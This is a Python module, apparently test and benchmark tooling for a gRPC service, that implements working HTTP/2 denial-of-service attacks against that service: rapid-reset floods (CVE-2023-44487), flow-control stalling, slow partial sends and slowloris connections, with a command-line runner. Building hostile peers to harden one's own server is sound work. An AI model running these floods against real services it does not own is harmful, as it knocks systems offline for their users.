"""Hostile HTTP/2 peers for the reliability tests and `python -m bench.hostile`.

Each attack speaks raw HTTP/2 through the ``h2`` package (no gRPC library on this side),
the way an outsider who can reach the port would:

* :func:`rapid_reset`: HEADERS for a Session stream, then RST_STREAM at once, over and
  over, on several connections (CVE-2023-44487).
* :class:`StalledReader`: opens Session streams on one connection, sends requests and
  never takes the answers (never grants the server any flow-control window), so every
  answer waits on the server and the streams pile up what the client sends.
* :class:`SlowSender`: Session streams that each send all of a large request but its
  last KiB, then go quiet (gRPC holds what it let in until the message is complete).
* :func:`half_open_http`: TCP connections to an HTTP port that send part of a request
  and then nothing (slowloris).

Run one as a child process (its CPU and the GIL stay out of the caller's way)::

    python -m bench.h2_attacks rapid-reset 127.0.0.1:50051 --seconds 10 --connections 4

prints one JSON line with its counts when it ends.
"""

from __future__ import annotations

import argparse
import json
import os
import select
import socket
import sys
import time
from collections import Counter
from dataclasses import asdict, dataclass, field
from typing import Any

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

SESSION_PATH = "/openenv_grpc.v1.EnvService/Session"
INFO_PATH = "/openenv_grpc.v1.EnvService/Info"
CANCEL = 0x8  # the HTTP/2 error code a client sends when it gives up on a stream


def grpc_headers(target: str, path: str = SESSION_PATH, token: str | None = None) -> list[Any]:
    """The request headers of a gRPC call to ``path`` (with the bearer token, if any)."""
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", target),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    if token:
        headers.append(("authorization", f"Bearer {token}"))
    return headers


def grpc_message(payload: bytes) -> bytes:
    """``payload`` framed as one uncompressed gRPC message."""
    return b"\x00" + len(payload).to_bytes(4, "big") + payload


class H2Peer:
    """One client HTTP/2 connection: a socket and an ``h2`` state machine.

    ``h2`` answers the server's PINGs and SETTINGS by itself (a real attacker keeps the
    connection healthy); :meth:`pump` feeds it what arrived and sends what it wants to.
    """

    def __init__(self, target: str) -> None:
        host, port = target.rsplit(":", 1)
        self.target = target
        self.sock = socket.create_connection((host.strip("[]"), int(port)), timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.conn = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding=None)
        )
        self.conn.initiate_connection()
        self.events: Counter[str] = Counter()
        self.closed = False
        self.flush()

    def flush(self) -> None:
        """Send everything ``h2`` has queued (blocking: the kernel buffer may be full)."""
        data = self.conn.data_to_send()
        if data:
            self.sock.sendall(data)

    def pump(self, timeout: float = 0.0) -> list[h2.events.Event]:
        """Read what the server sent within ``timeout`` seconds, let ``h2`` react to it,
        and return the events. Marks the peer closed when the server hangs up."""
        events: list[h2.events.Event] = []
        deadline = time.monotonic() + timeout
        while not self.closed:
            wait = max(0.0, deadline - time.monotonic())
            readable, _, _ = select.select([self.sock], [], [], wait)
            if not readable:
                break
            try:
                data = self.sock.recv(1 << 20)
            except OSError:
                data = b""
            if not data:
                self.closed = True
                break
            try:
                events.extend(self.conn.receive_data(data))
            except h2.exceptions.ProtocolError:
                self.closed = True
                break
            for event in events:
                self.events[type(event).__name__] += 1
                if isinstance(event, h2.events.ConnectionTerminated):
                    self.closed = True
            self.flush()
            deadline = min(deadline, time.monotonic())  # after data: drain without waiting
        return events

    def close(self) -> None:
        self.closed = True
        self.sock.close()


# -- rapid reset ------------------------------------------------------------------------------


@dataclass
class FloodReport:
    """What one :func:`rapid_reset` run did."""

    seconds: float = 0.0
    streams: int = 0  # HEADERS + RST_STREAM pairs sent
    connections_opened: int = 0
    goaways: int = 0  # the server ended a connection (GOAWAY or a closed socket)
    events: dict[str, int] = field(default_factory=dict)


def rapid_reset(
    target: str,
    seconds: float,
    connections: int = 4,
    token: str | None = None,
    batch: int = 50,
) -> FloodReport:
    """Open a Session stream and reset it at once, in batches of ``batch`` per connection
    in turn, for ``seconds``; a connection the server closes is replaced.

    Returns:
        The counts (streams sent, connections, what the server answered).
    """
    headers = grpc_headers(target, token=token)
    report = FloodReport()
    events: Counter[str] = Counter()

    def connect() -> H2Peer:
        report.connections_opened += 1
        return H2Peer(target)

    peers = [connect() for _ in range(connections)]
    start = time.monotonic()
    while time.monotonic() - start < seconds:
        for i, peer in enumerate(peers):
            try:
                for _ in range(batch):
                    stream = peer.conn.get_next_available_stream_id()
                    peer.conn.send_headers(stream, headers)
                    peer.conn.reset_stream(stream, CANCEL)
                    report.streams += 1
                peer.flush()
                peer.pump()
            except (OSError, h2.exceptions.H2Error):
                peer.closed = True
            if peer.closed:
                report.goaways += 1
                events.update(peer.events)
                peer.close()
                peers[i] = connect()
    for peer in peers:
        events.update(peer.events)
        peer.close()
    report.seconds = time.monotonic() - start
    report.events = dict(events)
    return report


# -- a client that stops reading --------------------------------------------------------------


class StalledReader:
    """Session streams on one connection whose answers the client never takes.

    Two ways to stop taking answers:

    * ``read_socket=True``: the client reads every frame but grants the server no more
      flow-control window than HTTP/2's initial 64 KiB (it never acknowledges the data it
      receives), so after the first answers every answer on the connection waits on the
      server;
    * ``read_socket=False``: the client grants the server a window of 2 GiB, reads for the
      first second (the server's window updates let the requests in) and then never
      reads the socket again, so the answers fill the kernel's buffers and then wait on
      the server.

    Meanwhile each stream sends a reset, then ``steps`` step requests, as fast as the
    server's windows let it: whatever the server accepts, it has to hold.
    """

    def __init__(
        self,
        target: str,
        streams: int,
        step_request: bytes,
        reset_request: bytes,
        steps: int = 200,
        token: str | None = None,
        read_socket: bool = True,
    ) -> None:
        self.peer = H2Peer(target)
        self.sent = 0
        self._read_socket = read_socket
        self._stop_reading_at: float | None = None  # set by the first push
        conn = self.peer.conn
        if not read_socket:
            huge = 2**31 - 1
            conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: huge})
            conn.increment_flow_control_window(huge - conn.inbound_flow_control_window)
        headers = grpc_headers(target, token=token)
        self._outbox: dict[int, bytearray] = {}
        for _ in range(streams):
            stream = conn.get_next_available_stream_id()
            conn.send_headers(stream, headers)
            self._outbox[stream] = bytearray(
                grpc_message(reset_request) + grpc_message(step_request) * steps
            )
        self.peer.flush()
        self.peer.pump(0.5)  # the server's SETTINGS (and, unread later, nothing else)

    @property
    def stream_ids(self) -> list[int]:
        return list(self._outbox)

    def push(self, seconds: float) -> int:
        """Send what the server's windows allow, for ``seconds`` (reading the server's
        frames but never granting window, or never reading at all); returns the bytes
        sent so far."""
        conn = self.peer.conn
        deadline = time.monotonic() + seconds
        if self._stop_reading_at is None:
            self._stop_reading_at = float("inf") if self._read_socket else time.monotonic() + 1
        stop_reading = self._stop_reading_at
        while time.monotonic() < deadline and not self.peer.closed:
            for stream, outbox in self._outbox.items():
                try:
                    room = min(len(outbox), conn.local_flow_control_window(stream))
                except (h2.exceptions.StreamClosedError, KeyError):
                    outbox.clear()  # the server ended this stream
                    continue
                while room > 0:
                    size = min(room, conn.max_outbound_frame_size)
                    conn.send_data(stream, bytes(outbox[:size]))
                    del outbox[:size]
                    self.sent += size
                    room -= size
            try:
                self.peer.flush()
            except OSError:
                self.peer.closed = True
            if time.monotonic() < stop_reading:
                self.peer.pump(0.05)
            else:
                time.sleep(0.05)
        return self.sent

    def close(self) -> None:
        self.peer.close()


# -- a client that sends all of a message but its last bytes ----------------------------------


class SlowSender:
    """Session streams on one connection, each announcing one gRPC message of
    ``message_bytes`` and sending all of it but the last ``tail`` bytes, as fast as the
    server's windows let it; then nothing more (the client keeps answering PINGs).

    gRPC buffers a message until it is complete, so whatever the server lets in, it holds.
    """

    def __init__(
        self, target: str, streams: int, message_bytes: int, tail: int = 1024,
        token: str | None = None, path: str = SESSION_PATH,
    ) -> None:  # fmt: skip
        self.peer = H2Peer(target)
        self.sent = 0
        #: Streams the server ended (a status, or RST_STREAM) and how.
        self.ended: dict[int, str] = {}
        headers = grpc_headers(target, path, token=token)
        conn = self.peer.conn
        self._outbox: dict[int, bytearray] = {}
        prefix = b"\x00" + message_bytes.to_bytes(4, "big")
        for _ in range(streams):
            stream = conn.get_next_available_stream_id()
            conn.send_headers(stream, headers)
            self._outbox[stream] = bytearray(prefix + bytes(message_bytes - tail))
        self.peer.flush()

    def _note(self, events: list[h2.events.Event]) -> None:
        for event in events:
            if isinstance(event, (h2.events.TrailersReceived, h2.events.ResponseReceived)):
                # A trailers-only answer (a refusal) is the response HEADERS themselves.
                fields = dict(event.headers)
                if b"grpc-status" in fields:
                    status = fields[b"grpc-status"].decode()
                    message = fields.get(b"grpc-message", b"").decode()
                    self.ended.setdefault(event.stream_id, f"status {status}: {message}")
            elif isinstance(event, h2.events.StreamReset):
                self.ended.setdefault(event.stream_id, f"reset {int(event.error_code)}")
            stream = getattr(event, "stream_id", None)
            if stream in self.ended:
                self._outbox.get(stream, bytearray()).clear()

    def push(self, seconds: float) -> int:
        """Send what the server's windows allow until every stream has sent all it will
        (or ``seconds`` pass); returns the bytes sent."""
        conn = self.peer.conn
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline and not self.peer.closed:
            moved = False
            for stream, outbox in self._outbox.items():
                if not outbox:
                    continue
                room = min(len(outbox), conn.local_flow_control_window(stream))
                while room > 0:
                    size = min(room, conn.max_outbound_frame_size)
                    conn.send_data(stream, bytes(outbox[:size]))
                    del outbox[:size]
                    self.sent += size
                    room -= size
                    moved = True
            try:
                self.peer.flush()
            except OSError:
                self.peer.closed = True
            if not any(self._outbox.values()):
                break
            self._note(self.peer.pump(0.0 if moved else 0.05))
        self._note(self.peer.pump(0.2))
        return self.sent

    def idle(self, seconds: float) -> None:
        """Stay connected and quiet for ``seconds``, answering the server's PINGs."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline and not self.peer.closed:
            self._note(self.peer.pump(min(0.2, max(0.0, deadline - time.monotonic()))))

    def close(self) -> None:
        self.peer.close()


# -- slowloris --------------------------------------------------------------------------------


def half_open_http(host: str, port: int, count: int) -> list[socket.socket]:
    """``count`` connections to an HTTP server, each with half a request line sent.

    Returns:
        The open sockets (close them when done).
    """
    sockets = []
    for _ in range(count):
        sock = socket.create_connection((host, port), timeout=10)
        sock.sendall(b"GET /metrics HTTP/1.1\r\nHost: x")
        sockets.append(sock)
    return sockets


def closed_by_peer(sock: socket.socket) -> bool:
    """Whether the other end has closed ``sock`` (reads EOF or a reset without blocking)."""
    readable, _, _ = select.select([sock], [], [], 0)
    if not readable:
        return False
    try:
        return sock.recv(65536) == b""
    except ConnectionError:
        return True


# -- command line -----------------------------------------------------------------------------


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    commands = parser.add_subparsers(dest="attack", required=True)
    flood = commands.add_parser("rapid-reset", help="HEADERS + RST_STREAM, over and over")
    flood.add_argument("target")
    flood.add_argument("--seconds", type=float, default=10.0)
    flood.add_argument("--connections", type=int, default=4)
    flood.add_argument("--token-env", default="", help="variable holding a bearer token to send")
    args = parser.parse_args(argv)
    token = os.environ.get(args.token_env) if args.token_env else None
    report = rapid_reset(args.target, args.seconds, args.connections, token)
    print(json.dumps(asdict(report)), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
